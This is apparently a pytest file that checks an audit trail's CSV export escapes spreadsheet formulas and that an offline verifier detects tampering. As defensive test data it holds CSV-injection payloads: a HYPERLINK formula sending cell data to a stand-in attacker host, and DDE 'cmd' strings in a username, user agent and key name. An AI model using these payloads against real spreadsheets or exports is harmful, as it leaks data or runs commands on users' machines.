"""The audit trail's CSV export: cells a spreadsheet would run as formulas are written as text,
and the offline verifier undoes exactly that escaping, so the chain still checks."""

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from rest_framework.test import APIClient

from accounts.models import ApiKey, User
from accounts.services import api_key_create
from audit import offline_verify
from audit.checkpoints import public_key_pem, sign
from audit.services import audit_event_record
from tests.accounts.helpers import bearer_client, login

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'


def _csv_export(client: APIClient, tmp_path: Path) -> Path:
    response = client.get("/api/audit/export/", {"export_format": "csv"})
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    path = tmp_path / "export.zip"
    path.write_bytes(b"".join(response.streaming_content))
    return path


def _cells(path: Path) -> list[list[str]]:
    body = zipfile.ZipFile(path).read("events.csv").decode()
    return list(csv.reader(io.StringIO(body)))


def _verified(path: Path, tmp_path: Path) -> bool:
    key = tmp_path / "public.pem"
    key.write_text(public_key_pem())
    return offline_verify.main([str(path), "--public-key", str(key)]) == 0


def _resigned(path: Path, body: bytes) -> None:
    """Replace events.csv and sign a matching manifest with the platform's own key."""
    original = zipfile.ZipFile(path)
    manifest = json.loads(original.read("manifest.json"))
    manifest["events_sha256"] = hashlib.sha256(body).hexdigest()
    manifest_bytes = json.dumps(manifest, indent=2).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("events.csv", body)
        archive.writestr("manifest.json", manifest_bytes)
        archive.writestr("manifest.sig", sign(manifest_bytes) + "\n")
    path.write_bytes(buffer.getvalue())


def test_a_formula_typed_at_login_reaches_the_csv_export_as_text(
    carol: User, alice: User, tmp_path: Path
) -> None:
    attacker = APIClient(HTTP_USER_AGENT="@SUM(1+1)*cmd|' /C calc'!A0", HTTP_X_REQUEST_ID="-2.3")
    refused = attacker.post("/api/auth/token/", {"username": FORMULA, "password": "x"}, format="json")
    assert refused.status_code == 401
    # Chained fields too: a target id and a genuine value that starts with a quote.
    audit_event_record(action="test.formula", actor=alice, target_type="test", target_id="+1")
    audit_event_record(action="test.quoted", actor=alice, target_type="test", target_id="'=literal")
    api_key_create(user=alice, name="=cmd|' /C calc'!A0", scopes=[ApiKey.Scope.CHAT], actor=alice)

    path = _csv_export(bearer_client(login(carol).access), tmp_path)

    rows = _cells(path)
    starts = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starts == []
    header = rows[0]
    failed = next(row for row in rows[1:] if row[header.index("action")] == "auth.login.failed")
    assert failed[header.index("actor_display")] == "'" + FORMULA
    assert failed[header.index("user_agent")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert failed[header.index("request_id")] == "'-2.3"
    created = next(row for row in rows[1:] if row[header.index("action")] == "apikey.created")
    assert created[header.index("target_display")].startswith("'=cmd|' /C calc'!A0 (")
    targets = [row[header.index("target_id")] for row in rows[1:]]
    assert "'+1" in targets
    assert "''=literal" in targets
    assert _verified(path, tmp_path)


def test_the_verifier_refuses_a_csv_whose_escaping_was_altered(
    carol: User, alice: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    audit_event_record(action="test.formula", actor=alice, target_type="test", target_id="=1+1")
    path = _csv_export(bearer_client(login(carol).access), tmp_path)
    body = zipfile.ZipFile(path).read("events.csv")
    assert b"'=1+1" in body

    # The file itself changed: its digest no longer matches the signed manifest.
    tampered = tmp_path / "tampered.zip"
    original = zipfile.ZipFile(path)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in original.namelist():
            archive.writestr(
                name, body.replace(b"'=1+1", b"'=1+2") if name == "events.csv" else original.read(name)
            )
    tampered.write_bytes(buffer.getvalue())
    assert not _verified(tampered, tmp_path)
    assert "not the file the manifest was signed for" in capsys.readouterr().out

    # Even signed, a changed escaped value breaks the chain, and an unescaped formula is refused.
    _resigned(tampered, body.replace(b"'=1+1", b"'=1+2"))
    assert not _verified(tampered, tmp_path)
    assert "hash does not follow" in capsys.readouterr().out
    _resigned(tampered, body.replace(b"'=1+1", b"=1+1"))
    assert not _verified(tampered, tmp_path)
    assert "not escaped" in capsys.readouterr().out


@pytest.mark.parametrize(
    "value", ["", "plain", "=1+1", "+1", "-1", "@x", "\tx", "\rx", "'", "'=x", "''", "a=b", "'plain"]
)
def test_cell_escaping_is_undone_exactly(value: str) -> None:
    from audit.exports import csv_cell_escape

    escaped = csv_cell_escape(value)
    assert not escaped.startswith(FORMULA_STARTS)
    assert offline_verify.csv_cell_unescape(escaped) == value
